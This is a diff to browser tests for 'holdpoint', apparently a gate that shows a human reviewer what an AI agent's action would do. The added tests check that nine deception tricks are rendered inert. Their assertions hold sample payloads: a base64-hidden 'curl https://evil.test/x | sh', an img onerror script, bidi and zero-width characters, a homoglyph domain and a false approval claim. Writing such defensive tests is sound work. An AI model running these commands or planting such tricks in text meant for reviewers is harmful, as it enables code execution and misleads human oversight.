@@ -1,7 +1,7 @@
 // The page in `www`, in Chromium, as a visitor uses it.
 import assert from "node:assert/strict";
 import { after, before, test } from "node:test";
-import { calibration, createGate } from "holdpoint";
+import { calibration, contextPackage, createGate, renderMarkdown, renderText } from "holdpoint";
 import { parseYamlPolicy } from "holdpoint/node";
 import { editors, isBuilt, open, skip, start, write } from "./www-support.mjs";
 
@@ -203,7 +203,7 @@ visit("text from an action stays text", "#gate", async (page) => {
 });
 
 visit("the chain of the first view goes before the action, and its calibrator into the gate", "#chain?claims=70x8", async (page) => {
-  await page.getByRole("link", { name: "May this action run?" }).click();
+  await page.getByRole("link", { name: "May this action run?" }).first().click();
   await isBuilt(page, "gate");
   await editors(page);
   await page.getByRole("button", { name: "a draft", exact: true }).click();
@@ -213,9 +213,63 @@ visit("the chain of the first view goes before the action, and its calibrator in
   assert.match(await page.textContent("#gate table"), /confidence/);
 });
 
+visit("the package is the package's, in every rendering, with one digest", "#package", async (page) => {
+  const { POLICY, ACTION, CONTEXT } = await examples();
+  const action = JSON.parse(ACTION);
+  const extra = { requestId: "req-1042", step: 3, tool: { title: "Refund a payment", schemaVersion: "3" }, lastApproved: { args: { ...action.args, amount: "25.00" }, requestId: "req-0981" } };
+  const pkg = contextPackage(createGate(parseYamlPolicy(POLICY)), action, JSON.parse(CONTEXT), extra);
+  const shown = () => page.textContent("#package .shown");
+  assert.equal(await shown(), renderText(pkg, { width: 84 }));
+  await page.getByLabel("nothing collapsed").check();
+  await page.getByLabel("Markdown", { exact: true }).check();
+  assert.equal(await shown(), renderMarkdown(pkg, { full: true }));
+  await page.getByLabel("Data", { exact: true }).check();
+  assert.deepEqual(JSON.parse(await shown()), pkg);
+  await page.getByLabel("Slack", { exact: true }).check();
+  assert.match(await shown(), /Refund 250\.00 to "Ann Miller"[^]*Approve/);
+  assert.equal(await page.textContent("#package .digest code"), pkg.digest);
+});
+
+visit("every trick comes out inert", "#package", async (page) => {
+  await page.getByRole("button", { name: "Try all at once" }).click();
+  assert.match(await headline(page, "package"), /^Nine tricks/);
+  assert.equal(await page.locator(".comparison").count(), 9);
+  for (const name of ["Text", "Markdown", "Slack", "Data"]) {
+    await page.getByLabel(name, { exact: true }).check();
+    // All of the view but the plain dialogs, which show the lies as they look.
+    const text = await page.evaluate(() => {
+      const copy = document.querySelector("#package").cloneNode(true);
+      for (const lie of copy.querySelectorAll(".naive")) lie.remove();
+      return { text: copy.textContent, evil: copy.querySelectorAll("img, script, iframe, a[href*=evil]").length };
+    });
+    assert.equal(text.evil, 0);
+    assert.doesNotMatch(text.text, /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u2060\ufeff\u001b]/, name);
+  }
+  const said = async (id) => (await page.locator(`.comparison[data-trick=${id}] .inert`).textContent()).replace(/\s+/g, " ");
+  for (const [id, wanted] of Object.entries({
+    bidi: /⟦U\+202E⟧fdp\.exe/, "zero-width": /⟦U\+200B⟧/, homoglyph: /xn--pypal-4ve\.com/, link: /\[See refund policy\]\(https:\/\/evil\.test\/login\).*no link/, html: /<img src=x onerror=alert\(1\)>/,
+    ansi: /⟦U\+001B⟧/, base64: /base64 for .*curl https:\/\/evil\.test\/x \| sh/, approved: /speaks as if it were approved/, preamble: /lines, .* left out for length/,
+  })) assert.match(await said(id), wanted, id);
+  await page.waitForFunction(() => location.hash.includes("base64"));
+  await page.reload();
+  await isBuilt(page, "package");
+  assert.equal(await page.locator(".tricks input:checked").count(), 9);
+  await page.getByRole("button", { name: "Switch all off" }).click();
+  assert.equal(await page.locator(".comparison").count(), 0);
+});
+
+visit("where there is no decision there is no package", "#package", async (page) => {
+  await page.getByRole("link", { name: "May this action run?" }).first().click();
+  await isBuilt(page, "gate");
+  await editors(page);
+  await write(page, "action", "{}");
+  await page.getByRole("link", { name: "What does the reviewer see?" }).first().click();
+  assert.match(await page.textContent("#package .shown"), /mend the policy or the action in view 2/);
+});
+
 visit("an address brings everything back", "#chain?claims=90x3,60&holds=2&caught=55", async (page) => {
   await page.getByLabel("Failing together").fill("70");
-  await page.getByRole("link", { name: "May this action run?" }).click();
+  await page.getByRole("link", { name: "May this action run?" }).first().click();
   await isBuilt(page, "gate");
   await editors(page);
   await page.getByRole("button", { name: "an injection" }).click();
@@ -228,7 +282,7 @@ visit("an address brings everything back", "#chain?claims=90x3,60&holds=2&caught
   await editors(other);
   assert.deepEqual(await state(other), wanted);
   assert.match(wanted[1], /ödesk/);
-  await other.getByRole("link", { name: "What is confidence worth?" }).click();
+  await other.getByRole("link", { name: "What is confidence worth?" }).first().click();
   await isBuilt(other, "chain");
   assert.equal(await headline(other, "chain"), sentence);
   assert.equal(await other.getByLabel("Mistakes this person finds").inputValue(), "55");
